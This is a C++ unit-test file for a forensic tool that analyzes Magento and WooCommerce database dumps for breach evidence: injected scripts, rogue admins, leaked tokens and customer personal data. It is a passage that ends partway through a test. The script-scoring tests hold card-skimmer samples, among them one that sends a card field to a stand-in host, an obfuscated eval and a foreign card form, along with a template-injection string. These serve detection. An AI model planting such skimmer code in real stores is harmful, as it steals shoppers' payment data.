// The analyzer end to end over hand-written dumps built from the real Magento and
// WordPress/WooCommerce table definitions (fuzz/corpus/storedb_dump/*.sql): findings,
// benign look-alikes left alone, PII map, customers and orders.
#include "storedb/analyzer.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "storedb/classify.h"
#include "storedb/stored_dump_testing.h"
#include "storedb/storedb.h"
#include "support/testing.h"

namespace tq::storedb {
namespace {

using ::testing::Contains;
using ::testing::UnorderedElementsAre;

struct Fixture {
  tq::testing::TempDir dir;
  std::unique_ptr<Case> c;
  EvidenceItem item;
  AnalyzeSummary summary;
};

std::unique_ptr<Fixture> Analyze(const std::string& corpus_file, AnalyzeOptions opt = {}) {
  auto f = std::make_unique<Fixture>();
  CaseInfo info;
  info.name = "t";
  Result<std::unique_ptr<Case>> c = Case::Create(f->dir / "case", info);
  EXPECT_TRUE(c.ok()) << c.status().ToString();
  f->c = std::move(*c);
  std::string path = std::string(TQ_SOURCE_DIR) + "/fuzz/corpus/storedb_dump/" + corpus_file;
  Result<EvidenceItem> item = StoreFileAsEvidence(*f->c, path, path, "test", "tester");
  EXPECT_TRUE(item.ok()) << item.status().ToString();
  f->item = *item;
  Result<AnalyzeSummary> s = AnalyzeDumpEvidence(*f->c, f->item, opt);
  EXPECT_TRUE(s.ok()) << s.status().ToString();
  if (s.ok()) f->summary = *s;
  return f;
}

std::vector<std::string> Query(Db& db, const std::string& sql) {
  std::vector<std::string> out;
  Result<Stmt> st = db.Prepare(sql);
  EXPECT_TRUE(st.ok()) << st.status().ToString();
  for (;;) {
    Result<bool> r = st->Step();
    if (!r.ok() || !*r) break;
    std::string row;
    for (int i = 0; i < st->ColumnCount(); ++i) {
      if (i) row.push_back('|');
      row.append(st->Text(i));
    }
    out.push_back(row);
  }
  return out;
}

// The case a Magento dump file makes, parsed on `threads` threads in chunks of `chunk_bytes`:
// its customers, orders, table counts and personal-data columns, then the rows of `extra`.
std::vector<std::string> CaseOfDump(const std::string& path, int threads, uint64_t chunk_bytes,
                                    std::vector<const char*> extra = {}) {
  auto f = std::make_unique<Fixture>();
  CaseInfo info;
  info.name = "t";
  Result<std::unique_ptr<Case>> c = Case::Create(f->dir / "case", info);
  EXPECT_TRUE(c.ok());
  f->c = std::move(*c);
  Result<EvidenceItem> item = StoreFileAsEvidence(
      *f->c, path, std::filesystem::path(path).filename().string(), "test", "tester");
  EXPECT_TRUE(item.ok());
  AnalyzeOptions opt;
  opt.platform = "magento";
  opt.dump.threads = threads;
  opt.dump.chunk_bytes = chunk_bytes;
  Result<AnalyzeSummary> s = AnalyzeDumpEvidence(*f->c, *item, opt);
  EXPECT_TRUE(s.ok()) << s.status().ToString();
  std::vector<const char*> queries = {
      "SELECT * FROM storedb_customer ORDER BY id", "SELECT * FROM storedb_order ORDER BY id",
      "SELECT table_name,row_count FROM storedb_table ORDER BY 1",
      "SELECT table_name,column_name,category,source,row_count,matched FROM "
      "storedb_pii_column ORDER BY 1,2,3,4"};
  queries.insert(queries.end(), extra.begin(), extra.end());
  std::vector<std::string> out;
  for (const char* q : queries)
    for (std::string& row : Query(f->c->db(), q)) out.push_back(std::move(row));
  return out;
}

TEST(StoreDbAnalyzer, MagentoFindingsWithInferredWindow) {
  auto f = Analyze("magento_small.sql");
  Db& db = f->c->db();
  EXPECT_EQ(f->summary.platform, "magento");
  EXPECT_EQ(f->summary.table_prefix, "mg_");
  EXPECT_EQ(f->summary.stats.problems, 0u);
  EXPECT_THAT(Query(db,
                    "SELECT json_extract(detail,'$.table'),json_extract(detail,'$.pk'),"
                    "json_extract(detail,'$.column') FROM findings WHERE "
                    "kind='storedb.injected_script'"),
              UnorderedElementsAre("mg_core_config_data|{\"config_id\":4}|value",
                                   "mg_core_config_data|{\"config_id\":6}|value",
                                   "mg_cms_block|{\"block_id\":3}|content"));
  // The rogue admin only: not the old admins, not the one created legitimately this week.
  EXPECT_THAT(Query(db,
                    "SELECT json_extract(detail,'$.pk') FROM findings WHERE "
                    "kind='storedb.rogue_admin'"),
              UnorderedElementsAre("{\"user_id\":4}"));
  std::vector<std::string> tokens =
      Query(db,
            "SELECT json_extract(detail,'$.table')||json_extract(detail,'$.pk')||' '||"
            "json_extract(detail,'$.kind') FROM findings WHERE kind='storedb.token'");
  EXPECT_THAT(tokens, Contains("mg_oauth_token{\"entity_id\":2} admin_token"));
  EXPECT_THAT(tokens, Contains("mg_integration{\"integration_id\":1} integration"));
  EXPECT_THAT(tokens, ::testing::Not(Contains("mg_oauth_token{\"entity_id\":4} admin_token")));
  EXPECT_THAT(tokens, ::testing::Not(Contains("mg_oauth_token{\"entity_id\":3} customer_token")));
  EXPECT_THAT(Query(db,
                    "SELECT json_extract(detail,'$.path') FROM findings WHERE "
                    "kind='storedb.config_change' ORDER BY 1"),
              Contains("payment/braintree/active"));
  // Each finding names the evidence, line and byte offset of its row.
  std::vector<std::string> off =
      Query(db, "SELECT byte_offset FROM findings WHERE json_extract(detail,'$.pk.config_id')=4");
  ASSERT_EQ(off.size(), 1u);
  std::string dump = tq::testing::ReadFile(std::string(TQ_SOURCE_DIR) +
                                           "/fuzz/corpus/storedb_dump/magento_small.sql");
  EXPECT_EQ(dump.substr(std::stoul(off[0]), 35), "(4,'default',0,'design/footer/absol");
}

TEST(StoreDbAnalyzer, MagentoCustomersOrdersAndPiiMap) {
  auto f = Analyze("magento_small.sql");
  Db& db = f->c->db();
  EXPECT_THAT(Query(db,
                    "SELECT customer_id,email,name,country,region FROM storedb_customer "
                    "ORDER BY email"),
              UnorderedElementsAre("|card.guest@example.com|Carla Guest|US|California",
                                   "|guest.buyer@example.com|Guest Buyer|FR|Île-de-France",
                                   "1|lena.vogel@example.net|Lena Vogel|DE|Bayern",
                                   "2|tom.o'brien@example.org|Tom O'Brien|US|California"));
  EXPECT_THAT(Query(db,
                    "SELECT increment_id,customer_id,country,payment_method,card_payment,"
                    "cc_last4,created_at FROM storedb_order ORDER BY increment_id"),
              ::testing::ElementsAre("000000101|1|DE|braintree|1||1760266800000000",
                                     "000000102||FR|checkmo|0||1760347800000000",
                                     "000000103||US|payflowpro|1|1111|1760460300000000"));
  // The billing address in parts, for postal letters (notify print).
  EXPECT_THAT(Query(db,
                    "SELECT billing_street,billing_city,billing_postcode FROM storedb_order "
                    "ORDER BY increment_id"),
              ::testing::ElementsAre("Marienplatz 2|München|80331", "1 Rue de Rivoli|Paris|75001",
                                     "1 Market St|San Francisco|94105"));
  std::vector<std::string> pii =
      Query(db,
            "SELECT table_name||'.'||column_name||'='||category||'/'||source FROM "
            "storedb_pii_column");
  for (const char* want :
       {"mg_customer_entity.email=email/schema", "mg_customer_entity.dob=date_of_birth/schema",
        "mg_customer_entity.password_hash=password_hash/schema",
        "mg_customer_address_entity.telephone=phone/schema",
        "mg_sales_order.remote_ip=ip_address/schema",
        "mg_sales_order_payment.cc_last_4=payment_card/schema",
        "mg_custom_leads.contact=email/content", "mg_custom_leads.tel=phone/content",
        "mg_sys_cache_store.v=payment_card/content"})
    EXPECT_THAT(pii, Contains(want));
  EXPECT_THAT(Query(db, "SELECT row_count FROM storedb_table WHERE table_name='mg_sales_order'"),
              ::testing::ElementsAre("3"));
}

// Which staged row each customer and order takes its address and payment from, and what
// its categories say (magento_joins.sql): a default billing address over the first address,
// else the lowest address id; an order's first billing address and first payment, a phone on
// its second billing address still counted, the shipping address never read; the first row
// of a repeated order id kept; a guest order named from its billing address.
TEST(StoreDbAnalyzer, CustomerAndOrderJoinsAndCategories) {
  auto f = Analyze("magento_joins.sql");
  Db& db = f->c->db();
  EXPECT_THAT(
      Query(db,
            "SELECT customer_id,email,name,country,region,categories FROM storedb_customer "
            "ORDER BY id"),
      ::testing::ElementsAre(
          R"(1|a@shop.test|Ann Alpha|DE|Bayern|["email","name","password_hash","phone","postal_address"])",
          R"(2|b@shop.test|Ben Beta|ES|Madrid|["email","name","postal_address"])",
          R"(3|c@shop.test|Cid|||["date_of_birth","email","name"])",
          R"(|g@shop.test|Gus Guest|US|CA|[])"));
  EXPECT_THAT(
      Query(db,
            "SELECT order_id,increment_id,customer_id,email,name,country,payment_method,"
            "card_payment,cc_last4,billing_address,categories FROM storedb_order ORDER BY id"),
      ::testing::ElementsAre(
          R"(100|000000100|1|a@shop.test|Ann Alpha|DE|checkmo|0||Hauptstr. 1, Berlin 10115, Bayern, DE|["email","name","phone","postal_address"])",
          R"(101|000000101||g@shop.test|Gus Guest|US|stripe_payments|1||1 Main St, Springfield 90001, CA, US|["email","ip_address","name","postal_address"])"));
  EXPECT_EQ(f->summary.customers, 4);
  EXPECT_EQ(f->summary.orders, 2);
}

TEST(StoreDbAnalyzer, RerunRefreshesWithoutDuplicates) {
  auto f = Analyze("magento_small.sql");
  Db& db = f->c->db();
  std::vector<std::string> before = Query(db, "SELECT count(*) FROM findings");
  std::vector<std::string> cust = Query(db, "SELECT count(*) FROM storedb_customer");
  Result<AnalyzeSummary> again = AnalyzeDumpEvidence(*f->c, f->item, {});
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(Query(db, "SELECT count(*) FROM findings"), before);
  EXPECT_EQ(Query(db, "SELECT count(*) FROM storedb_customer"), cust);
}

// The findings are committed before the customer and order tables are written, and
// findings_committed is called once in between (after the rows held since the read are freed):
// a connection of its own then sees this run's findings beside the previous run's tables,
// never part of the new ones. The analysis replays the requests from that point on.
TEST(StoreDbAnalyzer, FindingsAreCommittedBeforeTheTablesAndSaidOnce) {
  tq::testing::TempDir dir;
  CaseInfo info;
  info.name = "t";
  Result<std::unique_ptr<Case>> c = Case::Create(dir / "case", info);
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  std::string path = std::string(TQ_SOURCE_DIR) + "/fuzz/corpus/storedb_dump/magento_small.sql";
  Result<EvidenceItem> item = StoreFileAsEvidence(**c, path, path, "test", "tester");
  ASSERT_TRUE(item.ok()) << item.status().ToString();
  std::vector<std::string> seen;
  int calls = 0;
  AnalyzeOptions opt;
  opt.findings_committed = [&] {
    ++calls;
    Result<std::unique_ptr<Case>> reader = Case::Open(dir / "case", /*read_only=*/true);
    ASSERT_TRUE(reader.ok()) << reader.status().ToString();
    seen.push_back(
        Query((*reader)->db(),
              "SELECT (SELECT count(*) FROM findings WHERE component='storedb')||' '||"
              "(SELECT count(*) FROM storedb_customer)||' '||(SELECT count(*) FROM storedb_order)")
            .at(0));
  };
  ASSERT_TRUE(AnalyzeDumpEvidence(**c, *item, opt).ok());
  EXPECT_EQ(calls, 1);
  std::string after =
      Query((*c)->db(),
            "SELECT (SELECT count(*) FROM findings WHERE component='storedb')||' '||"
            "(SELECT count(*) FROM storedb_customer)||' '||"
            "(SELECT count(*) FROM storedb_order)")
          .at(0);
  std::string findings = after.substr(0, after.find(' '));
  ASSERT_NE(findings, "0");
  ASSERT_NE(after, findings + " 0 0");
  // First run: the findings, no customers or orders yet.
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0], findings + " 0 0");
  // A re-run: the findings, and the previous run's tables whole (not emptied yet).
  ASSERT_TRUE(AnalyzeDumpEvidence(**c, *item, opt).ok());
  EXPECT_EQ(calls, 2);
  ASSERT_EQ(seen.size(), 2u);
  EXPECT_EQ(seen[1], after);
}

// A re-run of the only dump empties the customer and order tables wholesale (drops and
// creates them again); with a second dump in the case its rows are deleted one by one. Either
// way the rows, their ids, the schema and the indexes come out as before.
TEST(StoreDbAnalyzer, RerunWithOneAndTwoDumpsKeepsRowsIdsAndSchema) {
  auto f = Analyze("magento_small.sql");
  Db& db = f->c->db();
  const std::string schema =
      "SELECT type,name,sql FROM sqlite_schema WHERE tbl_name IN "
      "('storedb_customer','storedb_order') ORDER BY name";
  const std::string rows =
      "SELECT 'c',id,evidence_id,customer_id,email,categories FROM storedb_customer UNION ALL "
      "SELECT 'o',id,evidence_id,order_id,email,billing_address FROM storedb_order ORDER BY 1,2";
  std::vector<std::string> schema_before = Query(db, schema), rows_before = Query(db, rows);
  ASSERT_FALSE(rows_before.empty());
  EXPECT_EQ(schema_before.size(), 6u);  // two tables, three indexes, the order key's
  ASSERT_TRUE(AnalyzeDumpEvidence(*f->c, f->item, {}).ok());
  EXPECT_EQ(Query(db, schema), schema_before);
  EXPECT_EQ(Query(db, rows), rows_before);

  std::string other = std::string(TQ_SOURCE_DIR) + "/fuzz/corpus/storedb_dump/magento_joins.sql";
  Result<EvidenceItem> second = StoreFileAsEvidence(*f->c, other, other, "test", "tester");
  ASSERT_TRUE(second.ok()) << second.status().ToString();
  ASSERT_TRUE(AnalyzeDumpEvidence(*f->c, *second, {}).ok());
  const std::string per_item =
      "SELECT evidence_id,count(*) FROM (SELECT evidence_id FROM storedb_customer UNION ALL "
      "SELECT evidence_id FROM storedb_order) GROUP BY 1 ORDER BY 1";
  std::vector<std::string> counts = Query(db, per_item);
  ASSERT_EQ(counts.size(), 2u);
  ASSERT_TRUE(AnalyzeDumpEvidence(*f->c, f->item, {}).ok());
  EXPECT_EQ(Query(db, per_item), counts);
  EXPECT_EQ(Query(db, schema), schema_before);
  EXPECT_EQ(Query(db, "SELECT count(*) FROM storedb_order WHERE evidence_id=" +
                          std::to_string(f->item.id)),
            Query(db, "SELECT " + std::to_string(f->summary.orders)));
  auto check = Query(db, "PRAGMA integrity_check");
  EXPECT_EQ(check, std::vector<std::string>{"ok"});
}

// With the parser on a thread of its own, the analyzer gets the rows of the tables it only
// counts past the sampled ones as counts: customers, orders, table row counts and personal-data
// columns come out the same as with one thread, on more rows per table than are sampled.
TEST(StoreDbAnalyzer, OneAndTwoThreadsWriteTheSameCaseOnLargeTables) {
  std::string d;
  auto insert = [&](const char* table, const char* cols, auto row) {
    d += std::string("INSERT INTO `") + table + "` (" + cols + ") VALUES ";
    for (int i = 1; i <= 2600; ++i) d += (i > 1 ? "," : "") + row(std::to_string(i));
    d += ";\n";
  };
  insert("customer_address_entity", "`entity_id`,`parent_id`,`country_id`,`city`,`telephone`",
         [](const std::string& i) { return "(" + i + "," + i + ",'FR','Lyon','+3361" + i + "')"; });
  insert("customer_entity", "`entity_id`,`email`,`firstname`,`lastname`,`default_billing`",
         [](const std::string& i) { return "(" + i + ",'c" + i + "@x.test','A','B'," + i + ")"; });
  insert("sales_order", "`entity_id`,`increment_id`,`customer_id`,`customer_email`,`created_at`",
         [](const std::string& i) {
           return "(" + i + ",'10" + i + "'," + i + ",'c" + i + "@x.test','2024-01-02 03:04:05')";
         });
  insert("sales_order_address", "`entity_id`,`parent_id`,`address_type`,`street`,`country_id`",
         [](const std::string& i) { return "(" + i + "," + i + ",'billing','1 rue','FR')"; });
  insert("sales_order_item", "`item_id`,`order_id`,`sku`,`name`", [](const std::string& i) {
    return "(" + i + "," + i + ",'s" + i + "','c" + i + "@x.test')";
  });
  insert("sales_order_payment", "`entity_id`,`parent_id`,`method`,`cc_last_4`",
         [](const std::string& i) { return "(" + i + "," + i + ",'braintree','1111')"; });
  tq::testing::TempDir dir;
  std::string path = dir / "large.sql";
  {
    std::ofstream out(path, std::ios::binary);
    out << d;
  }
  auto run = [&](int threads) { return CaseOfDump(path, threads, DumpOptions().chunk_bytes); };
  std::vector<std::string> one = run(1), two = run(2);
  EXPECT_EQ(one, two);
  EXPECT_THAT(one, Contains("sales_order_item|2600"));
  EXPECT_THAT(one, Contains("sales_order_item|name|email|content|2600|2000"));
  EXPECT_GT(one.size(), 5200u);
}

// Past the rows it samples, the parse on two threads hands the analyzer only the columns it
// reads of the customer, address, order and payment tables (MagentoColumnsRead), and a row
// holding "{{" whole: every column those tables are read for, filled in each row, and template
// directives past the sampled rows, give the same case read on one thread and on two, the
// dump cut into many chunks.
TEST(StoreDbAnalyzer, OneAndTwoThreadsAgreeOnEveryColumnReadPastTheSample) {
  const int n = 2600;
  std::string d;
  auto insert = [&](const char* table, const char* cols, auto row) {
    for (int at = 1; at <= n; at += 400) {
      d += std::string("INSERT INTO `") + table + "` (" + cols + ") VALUES ";
      for (int i = at; i < at + 400 && i <= n; ++i) d += (i > at ? "," : "") + row(i);
      d += ";\n";
    }
  };
  auto q = [](const std::string& v) { return "'" + v + "'"; };
  auto str = [](int i) { return std::to_string(i); };
  // Every seventh value empty, every row's own values otherwise; two rows past the sample
  // carry a template directive in a column the analyzer does not otherwise read.
  auto v = [&](const char* what, int i) { return i % 7 == 3 ? q("") : q(what + str(i)); };
  auto directive = [&](int i) {
    return i == 2300 || i == 2450 ? q("{{var this.getTemp()}}") : q("note" + str(i));
  };
  insert("customer_entity",
         "`entity_id`,`website_id`,`email`,`firstname`,`lastname`,`default_billing`,`created_at`,"
         "`password_hash`,`dob`,`taxvat`,`suffix`",
         [&](int i) {
           return "(" + str(i) + ",1," + v("c", i) + "," + v("F", i) + "," + v("L", i) + "," +
                  (i % 5 == 0 ? "NULL" : str(i % 11 == 0 ? i + 1 : i)) + ",'2024-01-02 03:04:05'," +
                  v("h", i) + "," + (i % 3 == 0 ? q("1980-01-01") : q("")) + "," + v("t", i) + "," +
                  directive(i) + ")";
         });
  insert("customer_address_entity",
         "`entity_id`,`parent_id`,`country_id`,`region`,`street`,`city`,`postcode`,`telephone`,"
         "`company`",
         [&](int i) {
           return "(" + str(i) + "," + str(i % 13 == 0 ? i - 1 : i) + "," + v("C", i) + "," +
                  v("R", i) + "," + v("S", i) + "," + (i % 4 == 0 ? q("") : q("city")) + "," +
                  v("P", i) + "," + (i % 6 == 0 ? q("") : q("+33")) + "," + directive(i) + ")";
         });
  insert("sales_order",
         "`entity_id`,`increment_id`,`customer_id`,`customer_is_guest`,`customer_email`,"
         "`customer_firstname`,`customer_lastname`,`status`,`grand_total`,`created_at`,"
         "`remote_ip`,`customer_dob`,`customer_taxvat`,`customer_note`",
         [&](int i) {
           return "(" + str(i) + ",'10" + str(i) + "'," + (i % 9 == 0 ? "NULL" : str(i)) + "," +
                  (i % 10 == 0 ? "1" : "0") + "," + v("e", i) + "," + v("f", i) + "," + v("l", i) +
                  ",'complete','" + str(i) + ".50','2024-02-03 04:05:06'," +
                  (i % 4 == 0 ? q("") : q("10.0.0.1")) + "," +
                  (i % 8 == 0 ? q("1970-01-01") : q("")) + "," + v("x", i) + "," + directive(i) +
                  ")";
         });
  insert("sales_order_address",
         "`entity_id`,`parent_id`,`address_type`,`firstname`,`lastname`,`country_id`,`region`,"
         "`street`,`city`,`postcode`,`email`,`telephone`,`company`",
         [&](int i) {
           return "(" + str(i) + "," + str((i + 1) / 2) + "," +
                  (i % 2 == 0 ? q("shipping") : q("billing")) + "," + v("af", i) + "," +
                  v("al", i) + "," + v("AC", i) + "," + v("AR", i) + "," + v("AS", i) + "," +
                  v("AT", i) + "," + v("AP", i) + "," + v("ae", i) + "," +
                  (i % 5 == 0 ? q("") : q("+44")) + "," + directive(i) + ")";
         });
  insert("sales_order_payment",
         "`entity_id`,`parent_id`,`method`,`cc_last_4`,`cc_type`,`po_number`", [&](int i) {
           return "(" + str(i) + "," + str(i) + "," + (i % 3 == 0 ? q("checkmo") : q("braintree")) +
                  "," + (i % 3 == 0 ? q("") : q("1111")) + "," + (i % 4 == 0 ? q("") : q("VI")) +
                  "," + directive(i) + ")";
         });
  insert("quote_address", "`address_id`,`quote_id`,`street`",
         [&](int i) { return "(" + str(i) + "," + str(i) + "," + directive(i) + ")"; });
  tq::testing::TempDir dir;
  std::string path = dir / "columns.sql";
  {
    std::ofstream out(path, std::ios::binary);
    out << d;
  }
  auto run = [&](int threads) {
    return CaseOfDump(
        path, threads, 16 << 10,
        {"SELECT kind,summary,detail,line,byte_offset FROM findings ORDER BY summary"});
  };
  std::vector<std::string> one = run(1), two = run(2);
  EXPECT_EQ(one, two);
  EXPECT_GT(one.size(), 2u * n);
  // The directives past the sample: in each of the five checkout tables, two rows each.
  EXPECT_EQ(std::count_if(one.begin(), one.end(),
                          [](const std::string& r) {
                            return r.find("Template directive") == 0 ||
                                   r.find("|Template directive") != std::string::npos;
                          }),
            10);
}

TEST(StoreDbAnalyzer, WooCommerceWithPrefixAndLegacyOrders) {
  AnalyzeOptions opt;
  opt.window = BreachWindow{1760236200000000, 1760324400000000};  // 10-12 02:30 .. 10-13 03:00
  auto f = Analyze("woocommerce_small.sql", opt);
  Db& db = f->c->db();
  EXPECT_EQ(f->summary.platform, "woocommerce");
  EXPECT_EQ(f->summary.table_prefix, "wp2_");
  EXPECT_THAT(Query(db,
                    "SELECT json_extract(detail,'$.table')||json_extract(detail,'$.pk') "
                    "FROM findings WHERE kind='storedb.injected_script'"),
              UnorderedElementsAre("wp2_options{\"option_id\":150}", "wp2_posts{\"ID\":11}"));
  // wpsupport (gmail, created in the window) only: not Peter (old), not Sam (new, store domain).
  EXPECT_THAT(Query(db,
                    "SELECT json_extract(detail,'$.pk') FROM findings WHERE "
                    "kind='storedb.rogue_admin'"),
              UnorderedElementsAre("{\"ID\":3}"));
  EXPECT_THAT(Query(db,
                    "SELECT json_extract(detail,'$.kind') FROM findings WHERE "
                    "kind='storedb.token'"),
              UnorderedElementsAre("api_key"));
  EXPECT_THAT(Query(db,
                    "SELECT order_id,customer_id,email,name,country,region,payment_method,"
                    "card_payment FROM storedb_order ORDER BY order_id"),
              ::testing::ElementsAre("50||old.style@example.com|Olga Style|AT|9|stripe|1",
                                     "51|2|jane.doe@example.com|Jane Doe|US|NY|stripe|1",
                                     "52||guest.uk@example.co.uk|Ian Guest|GB||bacs|0"));
  EXPECT_THAT(Query(db,
                    "SELECT billing_street,billing_city,billing_postcode FROM storedb_order "
                    "ORDER BY order_id"),
              ::testing::ElementsAre("|Wien|", "5 Main St|New York|10001",
                                     "10 Downing St|London|SW1A 2AA"));
  EXPECT_THAT(Query(db, "SELECT customer_id,email,country FROM storedb_customer"),
              UnorderedElementsAre("2|jane.doe@example.com|US", "5|max.b@example.org|GB",
                                   "|old.style@example.com|AT", "|guest.uk@example.co.uk|GB"));
  std::vector<std::string> pii =
      Query(db, "SELECT table_name||'.'||column_name||'='||category FROM storedb_pii_column");
  for (const char* want :
       {"wp2_users.user_email=email", "wp2_users.user_pass=password_hash",
        "wp2_wc_order_addresses.phone=phone", "wp2_wc_orders.ip_address=ip_address",
        "wp2_woocommerce_api_keys.consumer_secret=account_credentials"})
    EXPECT_THAT(pii, Contains(want));
}

// Post meta and layout XML are injection points like content; a site URL pointed at another
// host than the case's store URL is a finding, and does not make that host's scripts local.
TEST(StoreDbAnalyzer, PostMetaSiteUrlAndLayoutUpdates) {
  AnalyzeOptions opt;
  opt.store_hosts = {"www.points.example.test"};
  auto w = Analyze("woocommerce_points.sql", opt);
  EXPECT_THAT(Query(w->c->db(),
                    "SELECT json_extract(detail,'$.table')||json_extract(detail,'$.pk')||"
                    "severity FROM findings WHERE kind='storedb.injected_script'"),
              UnorderedElementsAre("wp_postmeta{\"meta_id\":10}critical"));
  EXPECT_THAT(Query(w->c->db(),
                    "SELECT json_extract(detail,'$.path')||' '||json_extract(detail,'$.host')||' '"
                    "||severity FROM findings WHERE kind='storedb.config_change'"),
              UnorderedElementsAre("home cdn-points-static.example.net high"));
  // Without the case's store URL, the dump's own URLs are all the evidence there is.
  auto w2 = Analyze("woocommerce_points.sql");
  EXPECT_TRUE(
      Query(w2->c->db(), "SELECT id FROM findings WHERE kind='storedb.config_change'").empty());

  auto m = Analyze("magento_layout.sql");
  EXPECT_THAT(Query(m->c->db(),
                    "SELECT json_extract(detail,'$.table')||'.'||json_extract(detail,'$.column')||"
                    "json_extract(detail,'$.pk') FROM findings WHERE "
                    "kind='storedb.injected_script' AND severity IN ('high','critical')"),
              UnorderedElementsAre("layout_update.xml{\"layout_update_id\":1}",
                                   "cms_page.custom_layout_update_xml{\"page_id\":2}"));
}

TEST(StoreDbAnalyzer, AdminCreatedAtTheSecondOfAnAnsweredAttack) {
  // Sam has the store's domain, a matching name and an office hour: nothing in the database
  // alone tells the account apart. A webshell command answered at the same second does.
  AnalyzeOptions opt;
  opt.window = BreachWindow{1760140800000000, 1760324400000000};  // 10-11 00:00 .. 10-13 03:00
  auto quiet = Analyze("woocommerce_small.sql", opt);
  auto flagged = [](Db& db) {
    return Query(db,
                 "SELECT json_extract(detail,'$.username') FROM findings WHERE "
                 "kind='storedb.rogue_admin' ORDER BY 1");
  };
  EXPECT_THAT(flagged(quiet->c->db()), ::testing::ElementsAre("wpsupport"));
  opt.answered_attacks = {
      {1760174000000000, "198.51.100.3", "GET /", "unrelated earlier hit"},
      {1760174103000000, "203.0.113.9", "POST /wp-content/uploads/x.php", "Webshell POST"}};
  auto loud = Analyze("woocommerce_small.sql", opt);
  EXPECT_THAT(flagged(loud->c->db()), ::testing::ElementsAre("sam", "wpsupport"));
  EXPECT_THAT(Query(loud->c->db(),
                    "SELECT summary FROM findings WHERE kind='storedb.rogue_admin' AND "
                    "json_extract(detail,'$.username')='sam'"),
              ::testing::ElementsAre(::testing::HasSubstr("'Webshell POST' for 203.0.113.9")));
}

TEST(StoreDbClassify, CanonicalTableNames) {
  struct Case {
    const char* in;
    const char* platform;
    const char* name;
    const char* prefix;
  } cases[] = {
      {"customer_entity", "magento", "customer_entity", ""},
      {"xyz_customer_entity", "magento", "customer_entity", "xyz_"},
      {"m2customer_address_entity", "magento", "customer_address_entity", "m2"},
      {"wp2_users", "woocommerce", "users", "wp2_"},
      {"wp_2_posts", "woocommerce", "posts", "wp_2_"},
      {"wp_wc_orders", "woocommerce", "wc_orders", "wp_"},
      {"users", "", "", ""},
      {"my_custom_table", "", "", ""},
  };
  for (const auto& c : cases) {
    CanonicalTable t = CanonicalTableName(c.in);
    EXPECT_EQ(t.platform, c.platform) << c.in;
    EXPECT_EQ(t.name, c.name) << c.in;
    EXPECT_EQ(t.prefix, c.prefix) << c.in;
  }
}

TEST(StoreDbClassify, ScriptScores) {
  std::vector<std::string> own = {"shop.example.test"};
  struct Case {
    const char* content;
    bool flagged;
  } cases[] = {
      {"<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>", false},
      {"<script src=\"https://shop.example.test/static/app.js\"></script>", false},
      {"<p>Hello</p>", false},
      {"<script src=\"https://jquery-cdn.top/min.js\"></script>", true},
      {"<script>eval(atob('ZG9jdW1lbnQ='))</script>", true},
      {"<script>document.querySelector('#cc_number');new Image().src='//x.top/?'+v</script>", true},
      {"<script src=\"https://www.google-analytics.com.evil.top/a.js\"></script>", true},
      // A card form posting to another host; the same form to the store, a newsletter form to
      // a mailing service, a card-less form elsewhere.
      {"<form action=\"https://pay.example.top/p\"><input name=\"cardnumber\"><input "
       "name=\"cvc\"></form>",
       true},
      {"<form action=\"https://shop.example.test/pay\"><input name=\"cardnumber\"></form>", false},
      {"<form action=\"https://list.example.top/subscribe\"><input name=\"email\"></form>", false},
  };
  for (const auto& c : cases)
    EXPECT_EQ(ScoreStoredScript(c.content, own).score >= kInjectedScriptThreshold, c.flagged)
        << c.content;
  // Obfuscation alone is one weak trait (reported at medium); with a foreign host's script, an
  // event handler or a behaviour it is not alone.
  EXPECT_TRUE(ScoreStoredScript("<script>var m=String.fromCharCode(115,64,101);</script>", own)
                  .obfuscation_only);
  EXPECT_FALSE(ScoreStoredScript("<script>eval(atob('ZG9jdW1lbnQ='))</script><script "
                                 "src=\"https://jquery-cdn.top/min.js\"></script>",
                                 own)
                   .obfuscation_only);
  EXPECT_FALSE(ScoreStoredScript("<img src=x onerror=\"eval(atob('ZG9jdW1lbnQ='))\">", own)
                   .obfuscation_only);
  EXPECT_FALSE(ScoreStoredScript("<script>document.querySelector('#cc_number');new Image().src='"
                                 "//x.top/?'+btoa(String.fromCharCode(1))</script>",
                                 own)
                   .obfuscation_only);
}

TEST(StoreDbClassify, ContentShapes) {
  EXPECT_TRUE(LuhnValid("4111111111111111"));
  EXPECT_FALSE(LuhnValid("4111111111111112"));
  EXPECT_TRUE(LooksLikeEmail("a.b@example.com"));
  EXPECT_FALSE(LooksLikeEmail("not an email"));
  EXPECT_TRUE(LooksLikePhone("+49 30 901820"));
  EXPECT_FALSE(LooksLikePhone("000000123"));
  EXPECT_FALSE(LooksLikePhone("1990-05-06"));
  EXPECT_FALSE(LooksLikePhone("203.0.113.7"));
  EXPECT_FALSE(LooksLikePhone("1234.5678"));
  EXPECT_TRUE(LooksLikePhone("(916) 555-0101"));
  EXPECT_TRUE(LooksLikeIpAddress("203.0.113.7"));
}

TEST(StoreDbPiiMap, BuiltinMapLoadsAndBadLinesFail) {
  EXPECT_GT(BuiltinPiiMap().size(), 200u);
  Result<std::vector<PiiMapEntry>> bad = ParsePiiMap("magento\tt\tc\tshoe_size\n", "m.tsv");
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.status().ToString(), "m.tsv:1: unknown category 'shoe_size'");
}

TEST(StoreDbMysql, DsnParsing) {
  Result<MysqlTarget> t = ParseMysqlDsn("host=db.local; port=3307;user=ro;database=shop");
  ASSERT_TRUE(t.ok());
  EXPECT_EQ(t->host, "db.local");
  EXPECT_EQ(t->port, 3307u);
  EXPECT_FALSE(ParseMysqlDsn("host=x;user=a;database=b;password=secret").ok());
  EXPECT_FALSE(ParseMysqlDsn("host=x;port=99999;user=a;database=b").ok());
  EXPECT_FALSE(ParseMysqlDsn("host=x;database=b").ok());
}

// Markup the row judgement reads: an event handler written with spaces before its '=', and
// a handler on an SVG element other than <svg onload>; a price text with an '=' is not.
TEST(StoreDbAnalyzer, HandlersWithSpacesAndSvgElementsAreCandidates) {
  StoredDump d(R"SQL(CREATE TABLE `cms_block` (`block_id` int NOT NULL, `title` varchar(255),
 `identifier` varchar(255), `content` mediumtext, `creation_time` timestamp NULL,
 `update_time` timestamp NULL, `is_active` smallint, PRIMARY KEY (`block_id`));
